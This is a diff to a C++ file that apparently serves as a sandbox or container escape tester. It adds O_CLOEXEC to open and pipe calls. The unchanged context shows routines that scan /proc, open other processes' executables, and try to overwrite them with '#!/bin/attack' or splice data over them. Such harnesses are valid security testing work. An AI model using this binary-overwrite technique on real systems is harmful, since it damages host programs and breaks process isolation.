@@ -74,7 +74,7 @@ long argument_of(const std::string& word) {
         return reinterpret_cast<long>(numbers);
     }
     if (word.starts_with('$')) {
-        return ::open(word.c_str() + 1, O_PATH | O_DIRECTORY);
+        return ::open(word.c_str() + 1, O_PATH | O_DIRECTORY | O_CLOEXEC);
     }
     return static_cast<long>(std::strtoull(word.c_str(), nullptr, 0));
 }
@@ -130,7 +130,7 @@ int make_call(const std::vector<std::string>& words) {
 bool gives_descriptors(const std::string& process) {
     bool given = false;
     for (int fd = 3; fd < 64; ++fd) {
-        int opened = ::open((process + "/fd/" + std::to_string(fd)).c_str(), O_PATH);
+        int opened = ::open((process + "/fd/" + std::to_string(fd)).c_str(), O_PATH | O_CLOEXEC);
         if (opened >= 0) {
             given = true;
             ::close(opened);
@@ -205,7 +205,7 @@ template <class Look>
 // writing as soon as nobody executes the program.
 [[noreturn]] void overwrite() {
     look_at_all_processes([](const std::string& process) {
-        int fd = ::open((process + "/exe").c_str(), O_RDONLY);
+        int fd = ::open((process + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
         if (fd < 0) {
             return;
         }
@@ -217,7 +217,7 @@ template <class Look>
         const std::string again = "/proc/self/fd/" + std::to_string(fd);
         constexpr int attempts = 20000; // for as long as the program lives, and longer
         for (int i = 0; i < attempts; ++i) {
-            int writer = ::open(again.c_str(), O_WRONLY);
+            int writer = ::open(again.c_str(), O_WRONLY | O_CLOEXEC);
             if (writer >= 0) {
                 say(::write(writer, "#!/bin/attack\n", 14) == 14 ? "overwrote" : "not written");
                 ::close(writer);
@@ -236,7 +236,7 @@ template <class Look>
 // had been one that may grow.
 bool splice_over(int file) {
     std::array<int, 2> pipe{};
-    if (::pipe2(pipe.data(), O_NONBLOCK) < 0) {
+    if (::pipe2(pipe.data(), O_NONBLOCK | O_CLOEXEC) < 0) {
         return false;
     }
     std::array<char, 4096> block{};
@@ -254,7 +254,7 @@ bool splice_over(int file) {
 
 [[noreturn]] void splice_over_programs() {
     look_at_all_processes([](const std::string& process) {
-        int fd = ::open((process + "/exe").c_str(), O_RDONLY);
+        int fd = ::open((process + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
         if (fd >= 0 && !link_of(process + "/exe").starts_with("/bin/") && splice_over(fd)) {
             say("spliced");
         }
